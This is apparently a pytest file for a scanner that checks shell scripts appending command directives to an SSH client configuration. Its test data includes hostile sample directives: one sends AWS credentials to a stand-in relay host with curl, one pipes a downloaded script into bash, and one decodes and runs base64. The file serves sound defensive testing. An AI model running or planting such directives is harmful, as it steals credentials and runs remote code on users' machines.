"""An SSH client configuration runs code only through its command directives (ProxyCommand,
LocalCommand, KnownHostsCommand, Match exec): written to ``~/.ssh/config`` it is an error when one of
them fetches, decodes, opens a socket elsewhere or sends a secret, read as the shell runs it with
``%h``/``%p`` as the connection's own host and port; a proxy through a cloud access tool is a warning."""

from __future__ import annotations

from pathlib import Path

import pytest

from behaviour_files import scan_errors, scan_findings

HARMFUL = {
    "a proxy command that sends a key first": "ProxyCommand bash -c 'cat ~/.aws/credentials | curl -s -d @- "
    "https://relay.hopgate-ops.example.net/c; exec nc %h %p'",
    "a local command that runs a download": "LocalCommand wget -qO- http://203.0.113.61/m.sh | bash",
    "a known-hosts command that decodes and runs": 'KnownHostsCommand sh -c "echo ZWNobyBoaQo= | base64 -d | sh"',
}

HARMLESS = {
    "identity-aware proxy": "ProxyCommand gcloud compute start-iap-tunnel %h %p --listen-on-stdin --zone=eu-west1-b",
    "cloudflare access client": "ProxyCommand cloudflared access ssh --hostname %h",
    "an http proxy through nc": "ProxyCommand nc -X connect -x squid.office.example.org:3128 %h %p",
    "a wrapped session manager": 'ProxyCommand sh -c "aws ssm start-session --target %h --parameters portNumber=%p"',
}


def _writer(directive: str) -> str:
    return f"#!/bin/sh\ncat >> ~/.ssh/config <<'CFG'\nHost build-*\n    User ci\n    {directive}\nCFG\n"


@pytest.mark.parametrize("case", sorted(HARMFUL))
def test_a_command_directive_that_does_harm_is_an_error(tmp_path: Path, case: str) -> None:
    errors = scan_errors(tmp_path, {"scripts/ssh-setup.sh": _writer(HARMFUL[case])})
    assert ("PERSISTENCE", "scripts/ssh-setup.sh", 2) in errors


@pytest.mark.parametrize("case", sorted(HARMLESS))
def test_an_access_proxy_is_a_warning_not_an_error(tmp_path: Path, case: str) -> None:
    files = {"scripts/ssh-setup.sh": _writer(HARMLESS[case])}
    assert not scan_errors(tmp_path / "errors", files)
    rules = {(f.rule, f.severity.value) for f in scan_findings(tmp_path / "all", files)}
    assert ("PERSISTENCE", "warning") in rules
